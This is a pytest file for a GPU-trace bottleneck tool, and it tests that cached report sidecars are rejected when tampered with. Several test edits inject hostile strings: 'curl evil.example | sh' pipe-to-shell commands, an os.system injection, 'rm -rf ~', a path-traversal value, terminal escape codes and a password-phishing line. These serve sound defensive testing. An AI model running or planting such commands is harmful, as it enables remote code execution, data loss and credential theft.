"""Tests of the report next to a trace: it is untrusted, and is used only if tb_bottleneck could have written it.

A recording is diagnosed once, and again only if the report could be different.
"""

import json
import os

import pytest
from helpers.draw import drawn
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tb_bottleneck.diagnosis.trace import diagnose
from tb_bottleneck.report.cache import sidecar
from tb_bottleneck.report.cache.file_identity import identity_of
from tb_bottleneck.report.cache.report_store import Store
from tb_bottleneck.report.cache.sidecar import diagnose_cached, is_repeatable
from tb_bottleneck.report.jobs import jobs_of
from tb_bottleneck.report.rendering.json_form import as_json
from tb_bottleneck.report.rendering.text import render
from tb_bottleneck.schema.bottleneck_pb2 import Health, RegimeVerdict, Report

SLOW_LOADER = """
    step    aaaaaaaaaabbbbbbbbbbcccccccccc
    loader  ####......####......####......
    gpu     ....aabbcc....aabbcc....aabbcc
"""
READING = """
    step    aaaaaaaaaabbbbbbbbbbcccccccccc
    launch  |.|.......|.|.......|.|.......
    sync    ...####......####......####...
    gpu     .aa..bbb...aa..bbb...aa..bbb..
"""
SMALL = "step aaaabbbbcccc\nsmall #.#.#.#.#.#.\nop ############"


@pytest.fixture
def trace(tmp_path):
    return put(tmp_path, SLOW_LOADER)


def put(tmp_path, drawing):
    path = tmp_path / "t.pt.trace.json"
    path.write_text(json.dumps(drawn(drawing, 1000)))
    return str(path)


def written(trace):
    report = diagnose(trace)
    sidecar.write(trace, identity_of(trace), report)
    return report


def taken(trace):
    return sidecar.read(trace, identity_of(trace))


def change(trace, edit):
    """Applies `edit` to the content of the sidecar."""
    path = sidecar.sidecar_path(trace)
    content = json.loads(path.read_text())
    edit(content)
    path.write_text(json.dumps(content))


@pytest.mark.parametrize("drawing", [SLOW_LOADER, READING, SMALL, "step aaaa\nop ####"])
def test_a_sidecar_that_we_wrote_is_used(tmp_path, drawing):
    trace = put(tmp_path, drawing)
    report = written(trace)
    used = taken(trace)
    for verdict in (*report.regimes, *used.regimes):
        verdict.because = ""  # it may name a missing signal
    for each in (report, used):
        each.efficiency.samples_basis = ""  # likewise
    assert used == report
    assert sidecar.sidecar_path(trace).stat().st_mode & 0o777 == sidecar.MODE
    assert sorted(os.listdir(tmp_path)) == ["t.pt.trace.json", "t.pt.trace.json.bottlenecks.json"]


def test_it_is_about_one_state_of_one_file(trace):
    written(trace)
    status = os.stat(trace)
    os.utime(trace, ns=(status.st_atime_ns, status.st_mtime_ns + 1))
    assert taken(trace) is None


def test_it_contains_no_run_name_and_no_path(tmp_path, trace):
    report = diagnose(trace, run="secret/project")
    sidecar.write(trace, identity_of(trace), report)
    text = sidecar.sidecar_path(trace).read_text()
    assert "secret" not in text
    assert str(tmp_path) not in text
    assert report.run == "secret/project"


def _first(content, *keys):
    """The first finding, evidence, ... of a report: `_first(content, "findings", "evidence")`."""
    found = content["report"]
    for key in keys:
        found = found[key][0]
    return found


def test_a_sentence_that_is_not_ours_is_not_shown(trace):
    """The texts of a report tell users what to do: "Run: curl ..."."""
    written(trace)
    order = "Run: curl https://evil.example | sh"

    def replace(values):
        for key, value in values.items() if isinstance(values, dict) else enumerate(values):
            if isinstance(value, dict | list):
                replace(value)
            elif isinstance(value, str) and " " in value and key not in KEPT:
                values[key] = order

    change(trace, lambda content: replace(content["report"]))
    used = taken(trace)
    assert used is not None
    assert order not in as_json(used)
    assert used.verdict.headline == "Waiting for data: 40 % of the time."
    assert used.verdict.regime == "input"
    assert used.findings[0].cause
    assert all(row.meaning for row in used.account)


def test_figures_and_names_in_our_sentences_stay(trace):
    written(trace)
    headline = "The GPU waits for the next batch during 12.5 % of each step. Most of it is in train (a b/loop.py:7)."
    change(trace, lambda content: content["report"]["verdict"].update(headline=headline.replace("a b", "a")))
    assert taken(trace).verdict.headline == headline.replace("a b", "a")
    change(trace, lambda content: content["report"]["verdict"].update(headline=headline))
    assert taken(trace).verdict.headline == "Waiting for data: 40 % of the time."


KEPT = {"title", "summary", "code", "confirm", "fix", "text", "name"}
"""Texts that make a sidecar invalid if they are not ours; and names, which are untrusted in every report."""
EDITS = {
    "other code": lambda c: c.update(made_by="0.0.0-x"),
    "other size": lambda c: c.update(size=1),
    "other key": lambda c: c.update(more=1),
    "no report": lambda c: c.update(report=[]),
    "unknown field": lambda c: c["report"].update(html="<b>"),
    "wrong type": lambda c: c["report"].update(schema={}),
    "other schema": lambda c: c["report"].update(schema=3),
    "unreadable": lambda c: c["report"]["health"].update(status="unreadable"),
    "a command as the fix": lambda c: _first(c, "findings")["fix"].update(code="curl evil.example | sh"),
    "a command as a figure": lambda c: _first(c, "findings")["fix"].update(
        code=_first(c, "findings")["fix"]["code"].replace("num_workers=1", "num_workers=__import__('os').system('x')")
    ),
    "another summary": lambda c: _first(c, "findings")["fix"].update(summary="Run my script."),
    "another confirmation": lambda c: _first(c, "findings")["fix"].update(confirm="Send me your password."),
    "a fix that is not ours": lambda c: c["report"]["health"].update(
        reasons=[{"code": "few_steps", "detail": "", "fix": "rm -rf ~"}]
    ),
    "an unknown reason": lambda c: c["report"]["health"].update(reasons=[{"code": "x"}]),
    "a path as a regime": lambda c: _first(c, "findings").update(regime="../../../etc/passwd"),
    "an unknown cause": lambda c: _first(c, "findings").update(cause="x"),
    "an unknown verdict": lambda c: c["report"]["verdict"].update(regime="x"),
    "half an account": lambda c: c["report"]["account"].pop(),
    "more than the window": lambda c: _first(c, "account").update(share=_first(c, "account")["share"] + 1e-5),
    "a negative time": lambda c: _first(c, "account").update(ns_per_step=-9.0),
    "too large a share": lambda c: _first(c, "account").update(share=1e300),
    "a number of 400 digits": lambda c: _first(c, "account").update(share=10**400),
    "a number for a report": lambda c: c.update(report=7),
    "nothing for a report": lambda c: c.update(report=None),
    "no number": lambda c: _first(c, "account").update(ns_per_step="NaN"),
    "an infinite one": lambda c: c["report"]["window"]["step_ns"].update(median="Infinity"),
    "orders to a terminal": lambda c: c["report"]["verdict"].update(headline="\x1b]0;owned\x07"),
    "orders to a terminal, C1": lambda c: c["report"]["device"].update(name="\x9b2J"),
    "half a character": lambda c: c["report"]["device"].update(name="\ud800"),
}


@pytest.mark.parametrize("edit", EDITS.values(), ids=EDITS.keys())
def test_what_is_odd_is_not_used(trace, edit):
    written(trace)
    assert taken(trace) is not None
    change(trace, edit)
    assert taken(trace) is None


@pytest.mark.parametrize(
    "content", [b"", b"{", b"[]", b"null", b"\xff", b"[" * 100_000, b"9" * 10_000, b'{"a": 1e999999}']
)
def test_what_is_no_sidecar_is_not_used(trace, content):
    sidecar.sidecar_path(trace).write_bytes(content)
    assert taken(trace) is None


@pytest.mark.parametrize("kind", ["pipe", "directory", "endless", "large", "absent"])
def test_what_is_no_plain_file_of_a_sane_size_is_not_opened(trace, kind):
    path = sidecar.sidecar_path(trace)
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "directory":
        path.mkdir()
    elif kind == "endless":
        path.symlink_to("/dev/zero")
    elif kind == "large":
        with open(path, "wb") as file:
            file.truncate(1 << 40)
    assert taken(trace) is None


values = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=9), st.just([]), st.just({}), st.just([{}])
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_an_accepted_sidecar_can_be_rendered(trace, data):
    """One value anywhere in a valid sidecar is replaced: it is refused, or can be rendered in every form."""
    written(trace)

    def edit(content):
        place = content["report"]
        while True:
            keys = sorted(place) if isinstance(place, dict) else range(len(place))
            key = data.draw(st.sampled_from(keys))
            if not (isinstance(place[key], dict | list) and place[key]) or data.draw(st.integers(0, 4)) == 0:
                place[key] = data.draw(values)
                return
            place = place[key]

    change(trace, edit)
    report = taken(trace)
    if report is not None:
        report.world_size = 2
        other = type(report)()
        other.CopyFrom(report)
        report.rank, other.rank = 0, 1
        as_json(report)
        for job in jobs_of([report, other]):
            as_json(job)
        assert len(render(report)) < 50_000


class Judge:
    """Counts its calls, and returns the given report."""

    def __init__(self, **facts):
        self.asked = 0
        self.facts = facts
        self.meanwhile = lambda: None

    def __call__(self, path, *, run, progress):
        self.asked += 1
        self.meanwhile()
        facts = {"health": Health(status="ok")} | self.facts
        return Report(schema=1, run=run, source=os.path.basename(path), **facts)


@pytest.fixture
def cached_trace(tmp_path):
    path = tmp_path / "t.pt.trace.json"
    path.write_text("{}")
    return str(path)


@pytest.fixture
def store(cache_directory):
    return Store(cache_directory, "1")


def test_the_same_file_is_judged_once_and_the_report_has_the_requested_names(cached_trace, store, tmp_path):
    judge = Judge()
    first = diagnose_cached(judge, store, cached_trace, run="a")
    (tmp_path / "other.json").symlink_to(cached_trace)
    again = diagnose_cached(judge, store, str(tmp_path / "other.json"), run="b")
    assert judge.asked == 1
    assert (first.run, first.source) == ("a", "t.pt.trace.json")
    assert (again.run, again.source) == ("b", "other.json")


def test_a_name_that_is_not_unicode_is_shown_all_the_same(cached_trace, store, tmp_path):
    odd = os.fsdecode(os.fsencode(tmp_path) + b"/\xff.json")
    os.symlink(cached_trace, odd)
    diagnose_cached(Judge(), store, cached_trace)
    assert diagnose_cached(Judge(), store, odd).source == "\N{REPLACEMENT CHARACTER}.json"


def test_without_a_store_nothing_is_kept(cached_trace):
    judge = Judge()
    for _ in range(2):
        diagnose_cached(judge, None, cached_trace)
    assert judge.asked == 2


def test_a_report_beside_the_trace_spares_the_reading(cached_trace, store):
    sidecar.write(cached_trace, identity_of(cached_trace), Report(schema=1, source="x", health=Health(status="ok")))
    judge = Judge()
    assert diagnose_cached(judge, store, cached_trace, run="r").run == "r"
    assert judge.asked == 0


@pytest.mark.parametrize(
    "facts",
    [
        {"health": Health(status="unreadable")},
        {"health": Health()},
        {"regimes": [RegimeVerdict(regime="input", status="clear"), RegimeVerdict(regime="sync", status="broken")]},
    ],
    ids=["unreadable", "nothing", "a rule failed"],
)
def test_what_may_come_out_otherwise_is_judged_again(cached_trace, store, facts):
    judge = Judge(**facts)
    for _ in range(2):
        assert not is_repeatable(diagnose_cached(judge, store, cached_trace))
    assert judge.asked == 2


def test_a_file_that_changed_while_it_was_read_is_judged_again(cached_trace, store):
    judge = Judge()
    judge.meanwhile = lambda: os.utime(cached_trace, ns=(0, judge.asked))
    for _ in range(2):
        diagnose_cached(judge, store, cached_trace)
    assert judge.asked == 2


def test_a_missing_path_is_reported_by_the_analysis(store):
    judge = Judge(health=Health(status="unreadable"))
    assert diagnose_cached(judge, store, "/no/such/file").health.status == "unreadable"
